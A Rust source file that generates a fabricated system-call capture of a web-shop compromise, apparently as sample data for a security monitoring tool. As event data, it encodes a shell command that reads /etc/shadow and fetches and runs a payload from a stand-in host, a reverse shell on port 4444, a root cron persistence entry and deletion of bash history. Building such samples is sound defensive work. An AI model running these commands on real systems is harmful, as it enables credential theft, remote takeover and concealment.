//! The sample incident that ships with the project: an upload script of a web shop is made to run
//! commands, and what follows from it.
//!
//! Everything in it is made up: addresses are from the ranges set aside for documentation, and times,
//! ids and inodes are constants, so that the file is the same on every machine.

use std::io;

use capture::{Compression, Writer};
use event::snapshot::{
    Descriptor, Group, Interface, L4Proto, MachineInfo, NamedKind, Process, Target, User, UserList,
};
use event::sock::Endpoint;
use event::{EventCode, Record, RecordBuilder, RecordFlags, codes, constants};

/// 14 March 2026, 09:26:53 UTC.
const START: u64 = 1_773_480_413_000_000_000;
const BOOT: u64 = START - 86_400_000_000_000;
const CONTAINER: &str = "7c1d5e0a94b3f6208d7e61c2ab95f0343e8812d6c07f5b9a4410ed2839fb6ca5";
const SHOP: [u8; 4] = [172, 17, 0, 3];
const VISITOR: [u8; 4] = [203, 0, 113, 77];
const CUSTOMER: [u8; 4] = [192, 0, 2, 18];
const HIDEOUT: [u8; 4] = [198, 51, 100, 23];
/// Device 136, minor 0: the first pseudo terminal.
const TERMINAL: u32 = 34_816;
const ALL_CAPABILITIES: u64 = 0x1ff_ffff_ffff;
const DOCKER_CAPABILITIES: u64 = 0xa804_25fb;
const CURRENT_FOLDER: i64 = -100;

/// A process, as the story needs it.
#[derive(Clone, Debug)]
struct Actor {
    pid: i64,
    /// Inside the container; the same as `pid` on the host.
    vpid: i64,
    parent: i64,
    session: i64,
    comm: &'static str,
    path: &'static str,
    args: &'static [&'static str],
    cwd: &'static str,
    inside: bool,
    uid: u32,
    tty: u32,
    inode: u64,
}

/// The records of the story while they are told.
#[derive(Debug, Default)]
struct Story {
    now: u64,
    records: Vec<(u16, Vec<u8>)>,
}

/// The whole capture, as the bytes of a file.
///
/// # Errors
/// When the writer fails, which it does not in memory.
pub fn capture_file() -> io::Result<Vec<u8>> {
    let mut writer = Writer::new(Vec::new(), Compression::Gzip)?;
    writer.machine(&MachineInfo {
        cpus: 4,
        memory: 8 << 30,
        max_pid: 4_194_304,
        hostname: b"shop-host-1".to_vec(),
        boot_time: BOOT,
        flags: 0,
    })?;
    writer.interfaces(&[Interface {
        name: b"eth0".to_vec(),
        address: [198, 18, 0, 10].into(),
        netmask: [255, 255, 255, 0].into(),
        broadcast: [198, 18, 0, 255].into(),
        link_speed: None,
    }])?;
    writer.users(&accounts())?;
    let cast = Cast::new();
    for actor in cast.at_start() {
        write_process(&mut writer, actor)?;
    }
    for descriptor in open_at_start(&cast) {
        writer.descriptor(&descriptor)?;
    }
    for (cpu, bytes) in tell(&cast) {
        let record = Record::parse(&bytes, cpu, RecordFlags::default())
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        writer.event(&record)?;
    }
    writer.finish()
}

fn accounts() -> UserList {
    let user = |uid, name: &str, home: &str, shell: &str| User {
        uid,
        gid: uid,
        name: name.into(),
        home: home.into(),
        shell: shell.into(),
    };
    let group = |gid, name: &str| Group {
        gid,
        name: name.into(),
    };
    UserList {
        users: vec![
            user(0, "root", "/root", "/bin/bash"),
            user(33, "www-data", "/var/www", "/usr/sbin/nologin"),
            user(1000, "mira", "/home/mira", "/bin/bash"),
        ],
        groups: vec![group(0, "root"), group(33, "www-data"), group(1000, "mira")],
    }
}

/// Who takes part.
struct Cast {
    init: Actor,
    shim: Actor,
    nginx: Actor,
    worker: Actor,
    fpm: Actor,
    pool: Actor,
}

impl Cast {
    fn new() -> Self {
        let init = Actor {
            pid: 1,
            vpid: 1,
            parent: 0,
            session: 1,
            comm: "systemd",
            path: "/usr/lib/systemd/systemd",
            args: &["--system"],
            cwd: "/",
            inside: false,
            uid: 0,
            tty: 0,
            inode: 1_310_801,
        };
        let shim = Actor {
            pid: 1874,
            vpid: 1874,
            parent: 1,
            session: 1874,
            comm: "containerd-shim",
            path: "/usr/bin/containerd-shim-runc-v2",
            args: &["-namespace", "moby", "-id", CONTAINER],
            inode: 1_311_377,
            ..init.clone()
        };
        let nginx = Actor {
            pid: 1902,
            vpid: 1,
            parent: 1874,
            session: 1902,
            comm: "nginx",
            path: "/usr/sbin/nginx",
            args: &["-g", "daemon off;"],
            inside: true,
            inode: 2_624_410,
            ..init.clone()
        };
        let worker = Actor {
            pid: 1931,
            vpid: 29,
            parent: 1902,
            uid: 33,
            ..nginx.clone()
        };
        let fpm = Actor {
            pid: 1933,
            vpid: 31,
            parent: 1902,
            comm: "php-fpm",
            path: "/usr/sbin/php-fpm",
            args: &["--nodaemonize"],
            cwd: "/var/www/shop",
            inode: 2_624_533,
            ..nginx.clone()
        };
        let pool = Actor {
            pid: 1940,
            vpid: 38,
            parent: 1933,
            ..fpm.clone()
        };
        Self {
            init,
            shim,
            nginx,
            worker,
            fpm,
            pool,
        }
    }

    fn at_start(&self) -> [&Actor; 6] {
        [
            &self.init,
            &self.shim,
            &self.nginx,
            &self.worker,
            &self.fpm,
            &self.pool,
        ]
    }
}

impl Actor {
    /// A child that will run `path`.
    fn child(&self, pid: i64, path: &'static str, args: &'static [&'static str]) -> Self {
        let comm = path.rsplit('/').next().unwrap_or(path);
        let inode = 2_630_000 + pid as u64;
        let vpid = if self.inside { pid - 1902 } else { pid };
        Self {
            pid,
            vpid,
            parent: self.pid,
            comm,
            path,
            args,
            inode,
            ..self.clone()
        }
    }

    fn cgroups(&self) -> Vec<u8> {
        let scope = if self.inside {
            format!("/system.slice/docker-{CONTAINER}.scope")
        } else if self.pid == 1 {
            "/init.scope".to_owned()
        } else {
            "/system.slice/containerd.service".to_owned()
        };
        ["cpuset", "cpu", "cpuacct", "io", "memory", "pids"]
            .into_iter()
            .flat_map(|name| format!("{name}={scope}\0").into_bytes())
            .collect()
    }

    fn arguments(&self) -> Vec<u8> {
        self.args
            .iter()
            .flat_map(|arg| [arg.as_bytes(), b"\0"].concat())
            .collect()
    }

    fn environment(&self) -> Vec<u8> {
        let home = if self.uid == 0 { "/root" } else { "/var/www" };
        format!("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0HOME={home}\0")
            .into_bytes()
    }

    fn capabilities(&self) -> u64 {
        match (self.inside, self.uid) {
            (true, 0) => DOCKER_CAPABILITIES,
            (false, 0) => ALL_CAPABILITIES,
            _ => 0,
        }
    }

    fn lower_layer(&self) -> bool {
        self.inside && !self.path.starts_with("/tmp/")
    }
}

fn write_process(writer: &mut Writer<Vec<u8>>, actor: &Actor) -> io::Result<()> {
    let (args, env, cgroups) = (actor.arguments(), actor.environment(), actor.cgroups());
    writer.process(&Process {
        tid: actor.pid,
        pid: actor.pid,
        ptid: actor.parent,
        sid: actor.session,
        vpgid: actor.vpid,
        pgid: actor.pid,
        vtid: actor.vpid,
        vpid: actor.vpid,
        comm: actor.comm.as_bytes(),
        exe: actor.path.as_bytes(),
        exepath: actor.path.as_bytes(),
        args: &args,
        env: &env,
        cwd: actor.cwd.as_bytes(),
        root: b"/",
        cgroups: &cgroups,
        fdlimit: 1_048_576,
        uid: actor.uid,
        gid: actor.uid,
        vm_size: 62_104,
        vm_rss: 9_812,
        tty: actor.tty,
        pidns_start: if actor.inside {
            BOOT + 41_000_000_000
        } else {
            BOOT
        },
        cap_permitted: actor.capabilities(),
        cap_effective: actor.capabilities(),
        exe_lower_layer: actor.lower_layer(),
        exe_ino: actor.inode,
        exe_ino_ctime: BOOT,
        exe_ino_mtime: BOOT,
        ..Process::default()
    })
}

fn endpoint(ip: [u8; 4], port: u16) -> Endpoint {
    Endpoint {
        ip: ip.into(),
        port,
    }
}

fn open_at_start(cast: &Cast) -> Vec<Descriptor<'static>> {
    let null = |tid, fd| Descriptor {
        tid,
        fd,
        ino: 5,
        target: Target::File {
            name: b"/dev/null",
            open_flags: constants::O_RDWR,
            dev: 5,
        },
    };
    let log = |tid, fd, name, ino| Descriptor {
        tid,
        fd,
        ino,
        target: Target::File {
            name,
            open_flags: constants::O_WRONLY | constants::O_APPEND,
            dev: 51,
        },
    };
    let server = |tid, fd, ip, port, ino| Descriptor {
        tid,
        fd,
        ino,
        target: Target::Server {
            local: endpoint(ip, port),
            l4: L4Proto::Tcp,
        },
    };
    let poll = |tid, fd| Descriptor {
        tid,
        fd,
        ino: 14_712,
        target: Target::Named {
            kind: NamedKind::EventPoll,
            name: b"",
        },
    };
    let (worker, pool) = (cast.worker.pid, cast.pool.pid);
    vec![
        null(worker, 0),
        log(worker, 1, b"/var/log/nginx/access.log", 393_412),
        log(worker, 2, b"/var/log/nginx/error.log", 393_413),
        server(worker, 6, [0, 0, 0, 0], 80, 28_103),
        poll(worker, 8),
        null(pool, 0),
        log(pool, 2, b"/var/log/php-fpm.log", 393_420),
        server(pool, 7, [127, 0, 0, 1], 9000, 28_144),
    ]
}

fn socket_tuple(from: ([u8; 4], u16), to: ([u8; 4], u16)) -> Vec<u8> {
    let mut raw = vec![event::sock::AF_INET];
    for (ip, port) in [from, to] {
        raw.extend_from_slice(&ip);
        raw.extend_from_slice(&port.to_le_bytes());
    }
    raw
}

impl Story {
    fn begin(&mut self, code: u16, actor: &Actor, pause: u64) -> RecordBuilder {
        self.now += pause;
        RecordBuilder::new(EventCode::new(code), START + self.now, actor.pid)
    }

    fn push(&mut self, actor: &Actor, record: RecordBuilder) {
        self.records.push((actor.pid as u16 % 4, record.finish()));
    }

    /// The parent's and the child's return from making the child.
    fn fork(&mut self, parent: &Actor, child: &Actor) {
        let in_namespace = if parent.inside {
            constants::CL_CHILD_IN_PIDNS
        } else {
            0
        };
        let flags =
            constants::CL_CLONE_CHILD_CLEARTID | constants::CL_CLONE_CHILD_SETTID | in_namespace;
        for (result, own) in [(child.vpid, parent), (0, child)] {
            let record = self
                .begin(codes::SYSCALL_CLONE_20_X, own, 61_000)
                .i64(result)
                .text(parent.path)
                .bytes(&parent.arguments())
                .i64(own.pid)
                .i64(own.pid)
                .i64(own.parent)
                .text("")
                .i64(1_048_576)
                .u64(0)
                .u64(412)
                .u32(62_104)
                .u32(9_812)
                .u32(0)
                .text(parent.comm)
                .bytes(&parent.cgroups())
                .u32(flags)
                .u32(own.uid)
                .u32(own.uid)
                .i64(own.vpid)
                .i64(own.vpid)
                .u64(BOOT + 41_000_000_000);
            self.push(own, record);
        }
    }

    fn exec(&mut self, actor: &Actor) {
        let layer = if actor.lower_layer() {
            constants::EXE_LOWER_LAYER
        } else {
            constants::EXE_UPPER_LAYER
        };
        let born = if actor.lower_layer() {
            BOOT
        } else {
            START + self.now
        };
        let record = self
            .begin(codes::SYSCALL_EXECVE_19_X, actor, 380_000)
            .i64(0)
            .text(actor.path)
            .bytes(&actor.arguments())
            .i64(actor.pid)
            .i64(actor.pid)
            .i64(actor.parent)
            .text("")
            .u64(1_048_576)
            .u64(0)
            .u64(97)
            .u32(4_276)
            .u32(1_104)
            .u32(0)
            .text(actor.comm)
            .bytes(&actor.cgroups())
            .bytes(&actor.environment())
            .u32(actor.tty)
            .i64(actor.vpid)
            .u32(u32::MAX)
            .u32(layer)
            .u64(0)
            .u64(actor.capabilities())
            .u64(actor.capabilities())
            .u64(actor.inode)
            .u64(born)
            .u64(born)
            .u32(actor.uid)
            .text(actor.path)
            .i64(actor.pid)
            .u32(actor.uid)
            .text(actor.path);
        self.push(actor, record);
    }

    /// Fork and exec in one.
    fn run(&mut self, parent: &Actor, child: &Actor) {
        self.fork(parent, child);
        self.exec(child);
        self.read_file(child, 3, "/etc/ld.so.cache", 240);
    }

    fn open(&mut self, actor: &Actor, fd: i64, path: &str, flags: u32) {
        let mode = if flags & constants::O_CREAT == 0 {
            0
        } else {
            0o644
        };
        let ino = path
            .bytes()
            .fold(400_000, |sum, b| (sum * 31 + u64::from(b)) % 4_000_000);
        let record = self
            .begin(codes::SYSCALL_OPENAT_2_X, actor, 45_000)
            .i64(fd)
            .i64(CURRENT_FOLDER)
            .text(path)
            .u32(flags)
            .u32(mode)
            .u32(51)
            .u64(if fd < 0 { 0 } else { ino });
        self.push(actor, record);
    }

    fn transfer(&mut self, code: u16, actor: &Actor, fd: i64, data: &[u8]) {
        let seen = &data[..data.len().min(80)];
        let record = self
            .begin(code, actor, 28_000)
            .i64(data.len() as i64)
            .bytes(seen)
            .i64(fd)
            .u32(4096.max(data.len() as u32));
        self.push(actor, record);
    }

    fn read(&mut self, actor: &Actor, fd: i64, data: &[u8]) {
        self.transfer(codes::SYSCALL_READ_X, actor, fd, data);
    }

    fn write(&mut self, actor: &Actor, fd: i64, data: &[u8]) {
        self.transfer(codes::SYSCALL_WRITE_X, actor, fd, data);
    }

    fn close(&mut self, actor: &Actor, fd: i64) {
        let record = self
            .begin(codes::SYSCALL_CLOSE_X, actor, 9_000)
            .i64(0)
            .i64(fd);
        self.push(actor, record);
    }

    fn read_file(&mut self, actor: &Actor, fd: i64, path: &str, length: usize) {
        self.open(actor, fd, path, constants::O_RDONLY | constants::O_CLOEXEC);
        self.read(actor, fd, &vec![b'.'; length]);
        self.close(actor, fd);
    }

    fn accept(&mut self, actor: &Actor, fd: i64, visitor: ([u8; 4], u16)) {
        let record = self
            .begin(codes::SOCKET_ACCEPT4_6_X, actor, 1_900_000)
            .i64(fd)
            .bytes(&socket_tuple(visitor, (SHOP, 80)))
            .u8(0)
            .u32(0)
            .u32(511)
            .u32(0);
        self.push(actor, record);
    }

    fn connect(&mut self, actor: &Actor, fd: i64, port: u16, to: ([u8; 4], u16)) {
        let record = self
            .begin(codes::SOCKET_SOCKET_X, actor, 70_000)
            .i64(fd)
            .u32(2)
            .u32(1)
            .u32(6)
            .u32(0);
        self.push(actor, record);
        let mut address = vec![event::sock::AF_INET];
        address.extend_from_slice(&to.0);
        address.extend_from_slice(&to.1.to_le_bytes());
        let record = self
            .begin(codes::SOCKET_CONNECT_X, actor, 23_400_000)
            .i64(0)
            .bytes(&socket_tuple((SHOP, port), to))
            .i64(fd)
            .bytes(&address);
        self.push(actor, record);
    }

    fn duplicate(&mut self, actor: &Actor, from: i64, to: i64) {
        let record = self
            .begin(codes::SYSCALL_DUP2_X, actor, 12_000)
            .i64(to)
            .i64(from)
            .i64(to);
        self.push(actor, record);
    }

    fn make_executable(&mut self, actor: &Actor, path: &str) {
        let record = self
            .begin(codes::SYSCALL_FCHMODAT_X, actor, 90_000)
            .i64(0)
            .i64(CURRENT_FOLDER)
            .text(path)
            .u32(0o755);
        self.push(actor, record);
    }

    fn remove(&mut self, actor: &Actor, path: &str) {
        let record = self
            .begin(codes::SYSCALL_UNLINKAT_2_X, actor, 110_000)
            .i64(0)
            .i64(CURRENT_FOLDER)
            .text(path)
            .u32(0);
        self.push(actor, record);
    }

    fn exit(&mut self, actor: &Actor) {
        let record = self
            .begin(codes::PROCEXIT_1_E, actor, 40_000)
            .i64(0)
            .i64(0)
            .u8(0)
            .u8(0)
            .i64(0);
        self.push(actor, record);
    }

    fn pause(&mut self, milliseconds: u64) {
        self.now += milliseconds * 1_000_000;
    }
}

/// What happens, from an ordinary customer to the removed history.
fn tell(cast: &Cast) -> Vec<(u16, Vec<u8>)> {
    let mut story = Story::default();
    let s = &mut story;
    let (worker, pool) = (&cast.worker, &cast.pool);
    let create = constants::O_WRONLY | constants::O_CREAT | constants::O_TRUNC;

    // A customer looks at the shop.
    s.accept(worker, 11, (CUSTOMER, 50_122));
    s.read(worker, 11, b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    s.read_file(worker, 12, "/var/www/shop/index.html", 2_310);
    s.write(
        worker,
        11,
        b"HTTP/1.1 200 OK\r\nContent-Length: 2310\r\n\r\n",
    );
    s.write(worker, 1, b"192.0.2.18 GET / 200\n");
    s.close(worker, 11);

    // A visitor calls a script that he has uploaded before.
    s.pause(2_400);
    s.accept(worker, 11, (VISITOR, 51_544));
    s.read(
        worker,
        11,
        b"POST /media/invoice.php HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    );
    s.read_file(pool, 9, "/var/www/shop/media/invoice.php", 412);
    let fetch: &[&str] = &[
        "-c",
        "cat /etc/shadow; curl -so /tmp/.cache http://198.51.100.23/c; /tmp/.cache",
    ];
    let sh = pool.child(2207, "/bin/sh", fetch);
    s.run(pool, &sh);

    // It reads the passwords, fetches a program and starts it.
    let cat = sh.child(2208, "/bin/cat", &["/etc/shadow"]);
    s.run(&sh, &cat);
    s.open(&cat, 3, "/etc/shadow", constants::O_RDONLY);
    s.read(
        &cat,
        3,
        b"root:$y$j9T$........................:20470:0:99999:7:::\n",
    );
    s.close(&cat, 3);
    s.exit(&cat);
    let curl = sh.child(
        2209,
        "/usr/bin/curl",
        &["-so", "/tmp/.cache", "http://198.51.100.23/c"],
    );
    s.run(&sh, &curl);
    s.read_file(&curl, 3, "/etc/resolv.conf", 74);
    s.connect(&curl, 5, 39_406, (HIDEOUT, 80));
    s.write(&curl, 5, b"GET /c HTTP/1.1\r\nHost: 198.51.100.23\r\n\r\n");
    s.read(&curl, 5, &[0x7f; 1_448]);
    s.open(&curl, 6, "/tmp/.cache", create);
    s.write(&curl, 6, &[0x7f; 1_448]);
    s.close(&curl, 6);
    s.close(&curl, 5);
    s.exit(&curl);
    s.make_executable(&sh, "/tmp/.cache");
    let dropped = sh.child(2211, "/tmp/.cache", &[]);
    s.run(&sh, &dropped);

    // The program calls home and ties a shell to the connection.
    s.connect(&dropped, 3, 39_412, (HIDEOUT, 4_444));
    s.duplicate(&dropped, 3, 0);
    s.duplicate(&dropped, 3, 1);
    s.duplicate(&dropped, 3, 2);
    let shell = Actor {
        session: 2214,
        tty: TERMINAL,
        ..dropped.child(2214, "/bin/bash", &["-i"])
    };
    s.pause(800);
    s.run(&dropped, &shell);

    // Somebody types: stay, and leave no trace.
    s.pause(4_100);
    s.open(&shell, 4, "/etc/cron.d/refresh", create);
    s.write(&shell, 4, b"*/5 * * * * root /tmp/.cache\n");
    s.close(&shell, 4);
    s.pause(2_700);
    let rm = shell.child(2219, "/bin/rm", &["-f", "/root/.bash_history"]);
    s.run(&shell, &rm);
    s.remove(&rm, "/root/.bash_history");
    s.exit(&rm);
    s.pause(900);
    s.exit(&shell);
    s.exit(&dropped);
    s.exit(&sh);
    s.close(worker, 11);
    story.records
}
